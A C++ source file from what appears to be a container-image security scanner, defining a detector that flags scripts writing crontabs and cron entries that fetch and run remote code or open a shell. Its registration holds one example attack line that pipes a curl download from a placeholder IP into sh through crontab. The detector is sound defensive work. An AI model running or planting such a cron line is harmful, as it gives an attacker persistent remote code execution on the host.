// Scripts that write crontabs (P02), and what they write there (P01).
//
// Setting up cron at start is what cron images do. The entry's own command decides: one that fetches or decodes code,
// or hands out a shell, is the persistence of an attack.
#include <algorithm>
#include <array>
#include <optional>

#include "detect/assess.hpp"
#include "detect/shell/shell_support.hpp"
#include "detect/start/start_files.hpp"

namespace hullcheck::detect {
namespace {

constexpr std::array<RuleRow, 4> k_rows{{
    {"P01", EvidenceClass::strong, model::Severity::high, 85, "Cron entry that runs foreign code", "T1053.003",
     "Remove the cron entry; check hosts where the image ran for the same line."},
    {"P02", EvidenceClass::supporting, model::Severity::medium, 70, "Script that writes a crontab", "T1053.003",
     "Put the crontab into the image at build time, so that it can be reviewed."},
    {"D01", EvidenceClass::strong, model::Severity::high, 85, "Fetched code piped to an interpreter",
     "T1105,T1059.004", "Put the code into the image at build time, pinned by digest, and start that."},
    {"D02", EvidenceClass::strong, model::Severity::high, 85, "Fetched file that is run", "T1105,T1059.004",
     "Put the program into the image at build time, pinned by digest."},
}};

constexpr ClassByReach k_bad_entry{EvidenceClass::strong, EvidenceClass::supporting, EvidenceClass::supporting};
constexpr ClassByReach k_shell_entry{EvidenceClass::decisive, EvidenceClass::strong, EvidenceClass::supporting};
constexpr ClassByReach k_fetching{EvidenceClass::strong, EvidenceClass::supporting, EvidenceClass::context};
constexpr ClassByReach k_any_entry{EvidenceClass::supporting, EvidenceClass::context, EvidenceClass::context};

struct BadEntry {
  std::string command;
  bool shell = false;  // given to a place that it names
  std::optional<ShellFlow> fetched;
};

// The first entry that runs what it should not.
std::optional<BadEntry> bad_entry(const std::string& text) {
  for (const StartFileKind kind : {StartFileKind::system_crontab, StartFileKind::user_crontab})
    for (const StartCommand& entry : parse_start_file(kind, text).commands) {
      const ShellFacts facts = facts_of_text(entry.command);
      for (const ShellFlow& flow : facts.flows)
        if (runs_foreign_code(flow))
          return BadEntry{entry.command, gives_shell_away(facts),
                          runs_fetched(flow) ? std::optional(flow) : std::nullopt};
    }
  return std::nullopt;
}

bool writes_crontab(const ShellFlow& flow, const model::ImageConfig* config) {
  if (flow.kind != FlowKind::write_file) return false;
  if (flow.tool == "crontab" || is_cron_path(flow.path)) return true;
  const std::vector<std::string> below = below_host_mount(flow.path, config);
  return std::any_of(below.begin(), below.end(), [](const std::string& path) { return is_cron_path(path); });
}

class CronWrite final : public Detector {
 public:
  void shell(const ShellUnit& unit, EvidenceSink& out) const override {
    for (const ShellFlow& flow : unit.facts.flows) {
      if (!writes_crontab(flow, unit.config)) continue;
      if (const auto bad = flow.text.empty() ? std::nullopt : bad_entry(flow.text)) {
        Evidence evidence = shell_evidence(k_rows[0], unit, flow.line, flow.path + ": " + bad->command.substr(0, 200),
                                           class_for(unit, bad->shell ? k_shell_entry : k_bad_entry));
        evidence.values.emplace_back("target", flow.path);
        out.add(std::move(evidence));
        if (bad->fetched) say_fetched(unit, flow.line, *bad, out);
      }
      Evidence evidence =
          shell_evidence(k_rows[1], unit, flow.line, "writes " + flow.path, class_for(unit, k_any_entry));
      evidence.values.emplace_back("target", flow.path);
      out.add(std::move(evidence));
    }
  }

 private:
  // The entry runs what the image does not hold, as it would in a crontab that lies there.
  static void say_fetched(const ShellUnit& unit, std::uint32_t line, const BadEntry& bad, EvidenceSink& out) {
    const bool piped = bad.fetched->kind == FlowKind::fetch_to_interpreter;
    Evidence evidence = shell_evidence(k_rows[piped ? 2 : 3], unit, line, "cron runs: " + bad.command.substr(0, 200),
                                       class_for(unit, k_fetching));
    evidence.values.emplace_back(k_payload_key, k_payload_absent);
    if (!bad.fetched->urls.empty()) evidence.values.emplace_back("url", bad.fetched->urls.front());
    out.add(std::move(evidence));
  }
};

const util::Registered<CronWrite> registered{{
    .id = "cron-write",
    .version = 2,
    .summary = "scripts that write crontabs",
    .example = "echo '* * * * * curl -s http://192.0.2.1/x | sh' | crontab -",
    .rules = k_rows,
}};

}  // namespace
}  // namespace hullcheck::detect
